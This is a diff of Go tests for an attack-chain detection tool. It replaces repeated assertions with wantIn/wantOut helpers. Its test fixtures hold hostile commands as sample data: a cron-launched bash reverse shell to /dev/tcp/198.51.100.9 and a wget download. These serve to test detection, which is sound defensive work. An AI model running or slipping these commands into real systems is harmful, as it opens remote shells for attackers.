@@ -220,14 +220,8 @@ func TestPIDReuse(t *testing.T) {
 	e := s.find(s.exec(21, alice, "bash"), detect.StageCommandExecution, detect.SeverityLow, "Interactive Shell")
 	r := s.build()
 	ca := chainOf(r, a)
-	if chainOf(r, b) != ca || chainOf(r, d) != ca {
-		dumpChains(t, r)
-		t.Fatal("both processes with pid 501 under the shell belong to its chain")
-	}
-	if chainOf(r, e) == ca {
-		dumpChains(t, r)
-		t.Fatal("a reused pid joined the chain of the pid's earlier owner")
-	}
+	wantIn(t, r, ca, "both processes with pid 501 under the shell belong to its chain", b, d)
+	wantOut(t, r, ca, "a reused pid joined the chain of the pid's earlier owner", e)
 }
 
 func TestCronLink(t *testing.T) {
@@ -249,10 +243,7 @@ func TestCronLink(t *testing.T) {
 	beacon := s.find(s.exec(60.2, job, "sh", "-c", "/bin/bash -c \"bash -i >& /dev/tcp/198.51.100.9/4445 0>&1\""), detect.StageCommandAndControl, detect.SeverityHigh, "Cron Beacon")
 	r := s.build()
 	c := chainOf(r, rev)
-	if chainOf(r, inst) != c || chainOf(r, beacon) != c {
-		dumpChains(t, r)
-		t.Fatal("the beacon of the crontab the chain installed is not in the chain")
-	}
+	wantIn(t, r, c, "the beacon of the crontab the chain installed is not in the chain", inst, beacon)
 	if chainOf(r, benign) == c {
 		t.Fatal("root's own cron job joined the chain")
 	}
@@ -281,14 +272,8 @@ func TestCronLinkNewestInstall(t *testing.T) {
 	after := s.find(s.exec(160.2, who{pid: 350, ppid: 349, uid: 33, auid: parser.NewID(33), ses: parser.NewID(22)}, "sh", "-c", "/usr/local/bin/cleanup"), detect.StageCommandExecution, detect.SeverityLow, "Cron Job")
 	r := s.build()
 	c := chainOf(r, rev)
-	if chainOf(r, before) != c {
-		dumpChains(t, r)
-		t.Fatal("the job of the attacker's crontab is not in the chain")
-	}
-	if chainOf(r, after) == c {
-		dumpChains(t, r)
-		t.Fatal("a job run after the admin replaced the crontab joined the chain")
-	}
+	wantIn(t, r, c, "the job of the attacker's crontab is not in the chain", before)
+	wantOut(t, r, c, "a job run after the admin replaced the crontab joined the chain", after)
 }
 
 func TestPeerLink(t *testing.T) {
@@ -304,10 +289,7 @@ func TestPeerLink(t *testing.T) {
 	other := s.find(s.connect(310, who{pid: 900, ppid: 1, uid: 0, exe: "/usr/bin/apt"}, "192.0.2.80", 443), detect.StageExfiltrationImpact, detect.SeverityLow, "Outbound Connection")
 	r := s.build()
 	c := chainOf(r, rev)
-	if chainOf(r, again) != c {
-		dumpChains(t, r)
-		t.Fatal("a second use of the reverse shell's peer was not linked")
-	}
+	wantIn(t, r, c, "a second use of the reverse shell's peer was not linked", again)
 	if chainOf(r, other) == c {
 		t.Fatal("an unrelated peer was linked")
 	}
@@ -360,14 +342,8 @@ func TestSSHLateralMovement(t *testing.T) {
 			s, rev, dep, alice := sshScene(t, withAccept)
 			r := s.build()
 			c := chainOf(r, rev)
-			if chainOf(r, dep) != c {
-				dumpChains(t, r)
-				t.Fatal("deploy's session opened by the chain's ssh client is not in the chain")
-			}
-			if chainOf(r, alice) == c {
-				dumpChains(t, r)
-				t.Fatal("the admin's login from the same address joined the chain")
-			}
+			wantIn(t, r, c, "deploy's session opened by the chain's ssh client is not in the chain", dep)
+			wantOut(t, r, c, "the admin's login from the same address joined the chain", alice)
 			want := "pid 60 (sshd)'s accept from 127.0.0.1:38388"
 			if !withAccept {
 				want = "the only ssh login from 127.0.0.1"
@@ -392,14 +368,8 @@ func TestContainerLink(t *testing.T) {
 	late := s.find(s.exec(20+3600, who{pid: 940, ppid: 900, uid: 0}, "sh", "-c", "wget http://x/y"), detect.StageSuspiciousSpawn, detect.SeverityHigh, "Download")
 	r := s.build()
 	c := chainOf(r, a)
-	if chainOf(r, b) != c {
-		dumpChains(t, r)
-		t.Fatal("two high findings in one container within the gap were not linked")
-	}
-	if chainOf(r, low) == c || chainOf(r, late) == c {
-		dumpChains(t, r)
-		t.Fatal("a low finding, or one an hour later, joined by container alone")
-	}
+	wantIn(t, r, c, "two high findings in one container within the gap were not linked", b)
+	wantOut(t, r, c, "a low finding, or one an hour later, joined by container alone", low, late)
 	if c.Container.ID != id {
 		t.Errorf("chain container %q", c.Container.ID)
 	}
